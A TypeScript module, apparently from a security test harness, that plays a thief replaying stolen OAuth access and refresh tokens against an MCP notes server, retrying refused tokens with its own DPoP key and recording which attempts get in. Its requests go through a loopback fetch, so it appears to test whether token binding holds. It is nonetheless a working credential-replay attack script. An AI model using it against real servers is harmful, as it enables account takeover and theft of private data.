import { loopbackFetch } from '../loopback-fetch.ts';
import type { Approach, Attempt, StolenNote } from './attempt.ts';
import type { Loot } from './loot.ts';
import { OwnKey } from './own-key.ts';

/**
 * Tries every stolen string from the thief's own machine, where no browser's rules apply. Only what is refused as it is
 * gets a second try, with a key of the thief's own.
 */
export async function* breakIn({ id, finds }: Loot): AsyncGenerator<Attempt> {
  const { accessTokens, refreshTokens, clientIds, resources, tokenEndpoints } = finds;
  const key = new OwnKey();

  for (const resource of resources) {
    for (const token of accessTokens) {
      const attempt = judge(id, 'bearer', token, resource, await listNotes(resource, token));
      yield attempt;
      if (attempt.verdict === 'refused') {
        yield judge(id, 'own-key', token, resource, await listNotes(resource, token, key));
      }
    }
    for (const tokenEndpoint of tokenEndpoints) {
      for (const token of refreshTokens) {
        for (const clientId of clientIds) {
          const body = new URLSearchParams({
            grant_type: 'refresh_token',
            refresh_token: token,
            client_id: clientId,
            resource,
          });
          const attempt = judge(id, 'refresh', token, tokenEndpoint, await refresh(tokenEndpoint, body, resource));
          yield attempt;
          if (attempt.verdict === 'refused') {
            yield judge(id, 'refresh-own-key', token, tokenEndpoint, await refresh(tokenEndpoint, body, resource, key));
          }
        }
      }
    }
  }
}

interface Answer {
  readonly status: number;
  readonly error?: string;
  readonly description?: string;
  readonly notes?: readonly StolenNote[];
}

function judge(lootId: number, approach: Approach, credential: string, url: string, answer: Answer): Attempt {
  const verdict = answer.notes ? 'got-in' : 'refused';
  return { lootId, approach, credential, server: new URL(url).host, verdict, ...answer };
}

/** One call of the 2026-07-28 protocol, which needs no session: the quickest way to everything. */
async function listNotes(resource: string, token: string, key?: OwnKey): Promise<Answer> {
  const call = {
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: {
      name: 'list_notes',
      arguments: {},
      _meta: {
        'io.modelcontextprotocol/protocolVersion': '2026-07-28',
        'io.modelcontextprotocol/clientInfo': { name: 'thief', version: '1.0.0' },
        'io.modelcontextprotocol/clientCapabilities': {},
      },
    },
  };
  const headers = {
    authorization: `${key ? 'DPoP' : 'Bearer'} ${token}`,
    accept: 'application/json, text/event-stream',
    'content-type': 'application/json',
    'mcp-protocol-version': '2026-07-28',
    'mcp-method': 'tools/call',
    'mcp-name': 'list_notes',
  };
  const response = await post(resource, headers, JSON.stringify(call), key, token);
  const reply = await readJson(response);
  const notes = reply.result?.structuredContent?.notes?.map(({ title, isPrivate }) => ({ title, isPrivate }));
  return { ...inItsOwnWords(response, reply), ...(notes && { notes }) };
}

/** A refreshed token counts only if it opens the notebook. */
async function refresh(tokenEndpoint: string, body: URLSearchParams, resource: string, key?: OwnKey): Promise<Answer> {
  const headers = { accept: 'application/json', 'content-type': 'application/x-www-form-urlencoded' };
  const response = await post(tokenEndpoint, headers, body.toString(), key);
  const reply = await readJson(response);
  if (!reply.access_token) return inItsOwnWords(response, reply);
  return listNotes(resource, reply.access_token, reply.token_type === 'DPoP' ? key : undefined);
}

/** Sends a request, with a proof if there is a key, and once more with the nonce if the server wants one. */
async function post(
  url: string,
  headers: Readonly<Record<string, string>>,
  body: string,
  key: OwnKey | undefined,
  token?: string,
): Promise<Response> {
  const send = async (nonce?: string) => {
    const proof = key && (await key.prove('POST', url, { ...(token !== undefined && { token }), nonce }));
    return loopbackFetch(url, { method: 'POST', headers: { ...headers, ...(proof && { dpop: proof }) }, body });
  };
  const response = await send();
  const nonce = response.headers.get('dpop-nonce');
  return key && nonce && !response.ok ? send(nonce) : response;
}

interface Reply {
  readonly error?: unknown;
  readonly error_description?: unknown;
  readonly access_token?: string;
  readonly token_type?: string;
  readonly result?: { readonly structuredContent?: { readonly notes?: readonly StolenNote[] } };
}

async function readJson(response: Response): Promise<Reply> {
  try {
    return (await response.json()) as Reply;
  } catch {
    return {};
  }
}

function inItsOwnWords(response: Response, reply: Reply): Answer {
  return {
    status: response.status,
    ...(typeof reply.error === 'string' && { error: reply.error }),
    ...(typeof reply.error_description === 'string' && { description: reply.error_description }),
  };
}
